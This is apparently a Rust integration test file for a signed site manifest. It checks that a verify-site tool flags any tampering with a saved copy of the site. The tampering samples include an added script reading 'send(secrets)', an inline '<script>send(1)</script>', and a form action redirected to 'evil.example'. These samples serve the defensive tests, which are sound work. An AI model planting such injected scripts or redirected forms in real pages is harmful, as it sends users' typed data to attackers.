//! The signed site manifest from one end to the other: printed by the server, signed by `asylia-keys`, published, and a
//! copy of the site, saved over HTTP, compared with it by `asylia-seal verify-site`.

use std::{
    fs,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
    time::Duration,
};

use asylia_envelope::{
    signing::{SigningKey, Site},
    site::{SiteManifest, SiteNote},
};
use tempfile::TempDir;

use crate::{
    programs::{done, program},
    server::{
        Place, Program, Server,
        http::{Answer, Form, Visitor},
        wait_for,
    },
};

/// A server that publishes a signed manifest, and a copy of its site.
struct Saved {
    place: Place,
    key: String,
    copy: TempDir,
    server: Server,
}

impl Saved {
    fn new() -> Self {
        let place = Place::with_config(CONFIG);
        let key = sign_by_program(&place);
        let server = place.start(Program::Asylia);
        let copy = tempfile::tempdir().expect("a temporary folder");
        let saved = Self {
            place,
            key,
            copy,
            server,
        };
        saved.save_all();
        saved
    }

    fn at(&self, name: &str) -> PathBuf {
        self.copy.path().join(name)
    }

    fn ask(&self, path: &str) -> Answer {
        let mut visitor = Visitor::connect(self.server.address()).expect("the server listens");
        visitor
            .ask(&format!("GET {path}"), None)
            .expect("an answer")
    }

    /// What `wget --mirror --no-host-directories` saves, and pages that only answer a form.
    fn save_all(&self) {
        fs::create_dir(self.at("static")).expect("own folder");
        let script = asylia::static_files::SCRIPT_PATH;
        let mailbox = asylia::static_files::MAILBOX_SCRIPT_PATH;
        for (path, name) in [
            ("/", "index.html"),
            ("/safety", "safety"),
            ("/about", "about"),
            ("/sealed", "sealed"),
            ("/mailbox", "mailbox"),
            ("/keys", "keys"),
            ("/site-manifest", "site-manifest"),
            (script, &script[1..]),
            (mailbox, &mailbox[1..]),
        ] {
            let answer = self.ask(path);
            assert_eq!(answer.status, 200, "{path}: {}", answer.body);
            fs::write(self.at(name), answer.body).expect("own folder");
        }
        fs::write(self.at("none"), self.ask("/none").body).expect("own folder");
        let mut visitor = Visitor::connect(self.server.address()).expect("the server listens");
        let receipt = visitor.post(Form::default().text("story", "x"));
        let receipt = receipt.expect("an answer");
        assert!(receipt.receipt().is_some(), "{}", receipt.body);
        fs::write(self.at("report"), receipt.body).expect("own folder");
    }

    /// Runs `verify-site`; returns whether it was content, and what it printed.
    fn verify(&self) -> (bool, String) {
        verify(&self.place.path(MANIFEST), &self.key, self.copy.path())
    }

    /// What is said once one thing in the copy is changed; the change is taken back.
    fn verify_with(&self, name: &str, bytes: &[u8]) -> String {
        let path = self.at(name);
        let before = fs::read(&path).ok();
        fs::write(&path, bytes).expect("own folder");
        let (good, said) = self.verify();
        assert!(!good, "{name}: {said}");
        match before {
            Some(before) => fs::write(&path, before),
            None => fs::remove_file(&path),
        }
        .expect("own folder");
        said
    }
}

#[test]
fn a_saved_copy_is_the_same_until_a_byte_of_it_changes() {
    let saved = Saved::new();
    let (good, said) = saved.verify();
    assert!(good, "{said}");
    let script = asylia::static_files::SCRIPT_PATH;
    let mailbox = asylia::static_files::MAILBOX_SCRIPT_PATH;
    for line in [
        format!("same                 {script}"),
        format!("page, as it should   /index.html: loads {script}"),
        format!("page, as it should   /mailbox: loads {mailbox}"),
        "page, as it should   /report: loads no script".to_owned(),
        "page, as it should   /none: loads no script".to_owned(),
        "this manifest        /site-manifest".to_owned(),
        "office's keys        /keys".to_owned(),
        "Everything in this folder is what the manifest says.".to_owned(),
    ] {
        assert!(said.contains(&line), "{line}: {said}");
    }

    let name = script.trim_start_matches('/');
    let mut bytes = fs::read(saved.at(name)).expect("it was saved");
    let middle = bytes.len() / 2;
    *bytes.get_mut(middle).expect("a middle") ^= 1;
    let said = saved.verify_with(name, &bytes);
    assert!(
        said.contains(&format!("DIFFERENT            {script}")),
        "{said}"
    );
    assert!(
        said.contains("1 of 11 paths are wrong or missing"),
        "{said}"
    );

    let said = saved.verify_with("static/added.js", b"send(secrets)");
    assert!(
        said.contains("NOT IN THE MANIFEST  /static/added.js"),
        "{said}"
    );

    fs::remove_file(saved.at(name)).expect("own folder");
    let (good, said) = saved.verify();
    assert!(
        !good && said.contains(&format!("MISSING              {script}")),
        "{said}"
    );
}

#[test]
fn a_saved_page_that_runs_or_sends_something_else_is_named() {
    let saved = Saved::new();
    let script = asylia::static_files::SCRIPT_PATH;
    let page = fs::read_to_string(saved.at("index.html")).expect("it was saved");
    let other = page.replace(script, "/static/added.js");
    assert_ne!(page, other);
    let said = saved.verify_with("index.html", other.as_bytes());
    assert!(
        said.contains("WRONG PAGE           /index.html: it loads a script"),
        "{said}"
    );
    let inline = page.replacen("<main>", "<main><script>send(1)</script>", 1);
    let said = saved.verify_with("index.html", inline.as_bytes());
    assert!(said.contains("carries a script inside the page"), "{said}");
    let away = page.replacen("<noscript><button", "<button", 1);
    assert_ne!(page, away);
    let said = saved.verify_with("index.html", away.as_bytes());
    assert!(
        said.contains("would send what is typed without locking it"),
        "{said}"
    );
    let away = page.replacen(
        "formaction=/report",
        "formaction=\"//evil.example/report\"",
        1,
    );
    let said = saved.verify_with("index.html", away.as_bytes());
    assert!(said.contains("sends to another site"), "{said}");
    let (good, said) = saved.verify();
    assert!(good, "control: {said}");
}

#[test]
fn another_key_and_a_damaged_manifest_are_refused() {
    let saved = Saved::new();
    let manifest = saved.place.path(MANIFEST);
    let stranger = SigningKey::<Site>::from_seed(&[9; 32]).verifying_key();
    let (good, said) = verify(&manifest, &stranger.to_string(), saved.copy.path());
    assert!(
        !good && said.contains("not signed by the key that was given"),
        "{said}"
    );

    let text = fs::read_to_string(&manifest).expect("it was signed");
    let other = saved.place.path("other");
    let refused = |text: &str, why: &str| {
        fs::write(&other, text).expect("own folder");
        let (good, said) = verify(&other, &saved.key, saved.copy.path());
        assert!(!good && said.contains(why), "{said}");
    };
    refused(&text[..text.len() - 1], "it is not whole");
    refused(&text[..text.len() / 2], "it is not whole");
    refused(
        &text.replace("script-src 'self'", "script-src *"),
        "does not verify",
    );
    let (unsigned, _) = text.split_once("\n\n").expect("a signature");
    refused(&format!("{unsigned}\n"), "not signed by the key");
    // In its own site's folder the forged one is named too.
    let said = saved.verify_with("site-manifest", unsigned.as_bytes());
    assert!(
        said.contains("NOT IN THE MANIFEST  /site-manifest"),
        "{said}"
    );
}

#[test]
fn a_server_publishes_its_own_manifest_or_none() {
    let saved = Saved::new();
    let published = saved.ask("/site-manifest");
    let signed = fs::read_to_string(saved.place.path(MANIFEST)).expect("it was signed");
    assert_eq!(published.body, signed);
    let said = doctor(&saved.place);
    assert!(said.contains("ok       site manifest: release "), "{said}");
    let Saved { place, server, .. } = saved;
    server.stop();

    let note = SiteNote::parse(signed.as_bytes()).expect("our own");
    let resigned = |alter: &dyn Fn(&mut SiteManifest)| {
        let mut other = note.manifest().clone();
        alter(&mut other);
        let text = other.to_text();
        let unsigned = SiteNote::parse(text.as_bytes()).expect("it has the form");
        unsigned
            .sign(&SigningKey::from_seed(&[9; 32]))
            .expect("once")
    };
    let unsigned = note.manifest().to_text();
    for (text, why) in [
        (
            resigned(&|it| it.files.iter_mut().for_each(|it| it.sha256 = [0; 32])),
            "names other files",
        ),
        (
            resigned(&|it| it.policy = "script-src *".to_owned()),
            "names another policy",
        ),
        (
            resigned(&|it| it.release = "0.0.9".to_owned()),
            "that of release 0.0.9",
        ),
        (unsigned, "nobody signed it"),
        (signed.replace("release: ", "release: 9"), "does not verify"),
        (signed[..signed.len() / 2].to_owned(), "it is not whole"),
    ] {
        fs::write(place.path(MANIFEST), text).expect("own folder");
        let said = refuses_to_start(&place);
        assert!(said.contains(why), "{why}: {said}");
        assert!(
            said.trim_end()
                .ends_with("leave the key `site_manifest` out."),
            "{said}"
        );
    }
    fs::remove_file(place.path(MANIFEST)).expect("own folder");
    assert!(refuses_to_start(&place).contains("cannot be read"));
}

#[test]
fn without_a_manifest_there_is_no_page_and_doctor_says_so() {
    let place = Place::new();
    let server = place.start(Program::Asylia);
    let mut visitor = Visitor::connect(server.address()).expect("the server listens");
    let answer = visitor.ask("GET /site-manifest", None).expect("an answer");
    assert_eq!(answer.status, 404);
    let said = doctor(&place);
    assert!(
        said.contains("MISSING  site manifest: none is published"),
        "{said}"
    );
}

/// Prints the manifest by the server, signs it by `asylia-keys`; returns the key's public half.
fn sign_by_program(place: &Place) -> String {
    let unsigned = place.path("unsigned");
    let printed = done(Command::new(Program::Asylia.path()).arg("site-manifest"));
    fs::write(&unsigned, printed).expect("own folder");
    let passphrase = place.path("passphrase");
    fs::write(&passphrase, "six random words of a list\n").expect("own folder");
    let keys = |verb: &str| {
        let mut command = Command::new(program("asylia-keys"));
        command.args(["site", verb, "--passphrase-file"]);
        command.arg(&passphrase);
        command
    };
    let said = done(keys("new").arg("--out").arg(place.path("site.key")));
    let key = said.split_once("--key`: ").expect("the public half").1;
    let key = key.lines().next().expect("a line").to_owned();
    let mut sign = keys("sign");
    sign.arg(&unsigned).arg("--key").arg(place.path("site.key"));
    done(sign.arg("--out").arg(place.path(MANIFEST)));
    key
}

fn verify(manifest: &Path, key: &str, folder: &Path) -> (bool, String) {
    let mut command = Command::new(program("asylia-seal"));
    command.args(["verify-site", "--key", key, "--manifest"]);
    command.arg(manifest).arg(folder);
    let output = command.output().expect("the program starts");
    (output.status.success(), printed(&output))
}

fn doctor(place: &Place) -> String {
    let mut command = Command::new(Program::Asylia.path());
    command.args(["doctor", "--data"]).arg(place.data());
    printed(&command.output().expect("the program starts"))
}

fn printed(output: &Output) -> String {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    text(&output.stdout) + &text(&output.stderr)
}

/// What a server prints that must not start.
fn refuses_to_start(place: &Place) -> String {
    let mut command = Command::new(Program::Asylia.path());
    command.args(["serve", "--listen", "none", "--data"]);
    command
        .arg(place.data())
        .arg("--keys")
        .arg(place.path("keys.note"));
    command.arg("--config").arg(place.path("config.toml"));
    command
        .current_dir(place.path("work"))
        .stderr(Stdio::piped());
    let mut child = command.spawn().expect("the program starts");
    let ended = wait_for(Duration::from_secs(60), || {
        child.try_wait().expect("the child is ours")
    });
    if ended.is_none() {
        child.kill().expect("the child is ours");
    }
    let output = child.wait_with_output().expect("the child is ours");
    assert_eq!(
        ended.and_then(|status| status.code()),
        Some(1),
        "{output:?}"
    );
    printed(&output)
}

/// Servers are started in a folder beside it.
const CONFIG: &str = "site_manifest = \"../site-manifest\"\n";
const MANIFEST: &str = "site-manifest";
